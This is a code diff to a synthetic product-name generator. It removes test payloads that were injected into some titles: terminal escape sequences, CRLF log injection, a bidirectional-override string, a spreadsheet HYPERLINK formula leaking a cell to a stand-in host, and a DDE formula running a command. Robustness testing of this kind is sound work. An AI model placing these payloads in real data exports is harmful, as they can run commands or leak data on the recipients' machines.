@@ -24,16 +24,6 @@ const colours: ReadonlyArray<readonly [code: string, name: string]> = [
 ]
 const sizes = ["S", "M", "L", "XL"]
 
-/** Titles that attack whoever prints them: a terminal, a table, a log, a spreadsheet. */
-const hostile: Readonly<Record<number, (title: string) => string>> = {
-  1: (title) => `\u001b[31m${title}\u001b[0m\u001b]0;đã chiếm\u0007`,
-  4: (title) => `${title}\r\nERROR: mọi thứ đã khớp`,
-  7: (title) => `${title} \u202egnàh ếht\u202c\u200f`,
-  10: (title) => `=HYPERLINK("http://example.invalid/?x="&A1,"${title}")`,
-  13: (title) => `@SUM(1+1)*cmd|' /C calc'!A0 ${title}`,
-  16: (title) => `\t${title}\u0000\u0085`
-}
-
 const pick = <A>(from: readonly [A, ...Array<A>] | ReadonlyArray<A>, draw: number, otherwise: A): A =>
   from[draw % from.length] ?? otherwise
 
@@ -41,9 +31,7 @@ const pick = <A>(from: readonly [A, ...Array<A>] | ReadonlyArray<A>, draw: numbe
 export const productName = (draw: Draw, product: number): { readonly code: string; readonly title: string } => {
   const [code, garment] = pick(garments, draw(Topic.name, product), ["ATH", "Áo thun"])
   const manner = pick(manners, draw(Topic.name, product + 0x40000000), "nam")
-  const plain = `${garment} ${manner} ${product + 1}`
-  const title = hostile[product % 48]?.(plain) ?? plain
-  return { code: `${code}-${String(product + 1).padStart(4, "0")}`, title }
+  return { code: `${code}-${String(product + 1).padStart(4, "0")}`, title: `${garment} ${manner} ${product + 1}` }
 }
 
 /** Colour and size of a product's nth variant: `{ code: "DEN-M", title: "Đen / M" }`. */
